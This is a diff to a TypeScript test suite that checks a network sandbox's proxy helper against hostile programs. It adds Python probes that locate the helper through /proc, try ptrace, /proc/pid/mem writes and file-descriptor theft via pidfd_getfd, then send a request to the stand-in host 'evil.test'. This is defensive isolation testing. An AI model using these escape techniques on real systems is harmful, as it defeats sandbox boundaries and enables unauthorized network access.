@@ -6,6 +6,20 @@ import type { NetworkRow } from './describe-network.ts'
 /** Behind whatever else was tried, a host of the list is reached. */
 const stillWorks = `print(status(get('api.test:%d' % http)))`
 
+/** The helpers that a program sees, each with the descriptor of its way to the host. */
+const findHelpers = `
+helpers = []
+for process in filter(str.isdigit, os.listdir('/proc')):
+    try: line = open('/proc/%s/cmdline' % process, 'rb').read()
+    except OSError: continue
+    words = line.split(b'\\0')
+    # Neither this program, nor what started it or the helper, which have their text, too.
+    interpreter = os.path.basename(words[0]).startswith((b'python', b'node'))
+    if b'fenced-network 1' not in line or not interpreter or int(process) == os.getpid(): continue
+    link = words[words.index(b'3128') + 1]
+    helpers.append((int(process), 1 if link == b'-' else int(link)))
+`
+
 export const hostileNetworkRows: readonly NetworkRow[] = [
   {
     name: 'nothing is reached without the proxy: no port of this machine, no address, no name, no abstract socket',
@@ -147,21 +161,64 @@ print(get('api.test:%d' % http)[9:70])`,
     },
   },
   {
+    name: 'who reaches into the helper, by its memory, its descriptors or a tracer, has the rights of a program by that',
+    async check({ run, connections, hasHelperUser, servers: { httpPort } }) {
+      const output = await run(`${findHelpers}
+import ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+libc.syscall.restype = ctypes.c_long
+def call(*numbers):
+    result = libc.syscall(*map(ctypes.c_long, numbers))
+    if result < 0: raise OSError(ctypes.get_errno(), 'refused')
+    return result
+ATTACH, DETACH, PIDFD_OPEN, PIDFD_GETFD = 16, 17, 434, 438
+def trace(helper):
+    if libc.ptrace(ATTACH, helper, None, None) != 0: raise OSError(ctypes.get_errno(), 'refused')
+    os.waitpid(helper, 0)
+    libc.ptrace(DETACH, helper, None, None)
+def duplicate(helper, link):
+    speak(call(PIDFD_GETFD, call(PIDFD_OPEN, helper, 0), link, 0))
+def reopen(helper, link):
+    speak(os.open('/proc/%d/fd/%d' % (helper, link), os.O_WRONLY))
+# Of a channel, to the host: it is opened, and asks for a host that no list has.
+def frame(kind, content=b''): return kind + (2 ** 31).to_bytes(4, 'big') + len(content).to_bytes(4, 'big') + content
+words = b'GET http://evil.test:%d/ HTTP/1.1\\r\\nHost: evil.test:%d\\r\\n\\r\\n' % (http, http)
+def speak(link): os.write(link, frame(b'O') + frame(b'D', words))
+def tried(way, act):
+    try: act()
+    except OSError: return False
+    ways.append(way)
+    return True
+ways = []
+for helper, link in helpers:
+    tried('signal', lambda: os.kill(helper, 0))
+    tried('tracer', lambda: trace(helper))
+    tried('memory', lambda: open('/proc/%d/mem' % helper, 'r+b').close())
+    tried('descriptor', lambda: duplicate(helper, link)) or tried('file', lambda: reopen(helper, link))
+time.sleep(0.5)
+print(len(helpers) > 0, *ways)`)
+      const [found, ...ways] = output.trim().split(' ')
+      equal(found, 'True')
+      if (hasHelperUser) deepEqual(ways, [])
+      const spoke = ways.includes('descriptor') || ways.includes('file')
+      deepEqual(
+        connections.map(({ host, port, verdict }) => ({ host, port, verdict })),
+        spoke ? [{ host: 'evil.test', port: httpPort, verdict: 'refused' }] : [],
+      )
+    },
+  },
+  {
     name: 'who ends or stops the helper gets no other network by that',
-    async check({ run, sandbox }) {
-      const output = await run(`
+    async check({ run, hasHelperUser }) {
+      const output = await run(`${findHelpers}
 import signal
 reached = []
-helpers = []
-for process in filter(str.isdigit, os.listdir('/proc')):
-    try: line = open('/proc/%s/cmdline' % process, 'rb').read()
-    except OSError: continue
-    # Not the shell that started this program, which has its text, too.
-    if b'fenced-network 1' not in line or line.startswith(b'/bin/sh'): continue
-    if int(process) != os.getpid(): helpers.append(int(process))
+sent = []
 def tried(number):
-    for helper in helpers:
-        try: os.kill(helper, number)
+    for helper, _ in helpers:
+        try:
+            os.kill(helper, number)
+            sent.append(number)
         except OSError: pass
 tried(signal.SIGSTOP)
 for host, port in [('127.0.0.1', http), ('192.0.2.1', 80)]:
@@ -172,9 +229,8 @@ tried(signal.SIGKILL)
 time.sleep(0.2)
 try: answer = status(get('evil.test:%d' % http))
 except OSError: answer = 'closed'
-print(len(helpers) > 0, len(reached), answer in ('403', 'closed'))`)
-      equal(output, 'True 0 True\n')
-      ok(sandbox.id !== undefined)
+print(len(helpers) > 0, len(reached), len(sent), answer)`)
+      match(output, hasHelperUser ? /^True 0 0 403\n$/ : /^True 0 \d+ (?:403|closed)\n$/)
     },
   },
   {
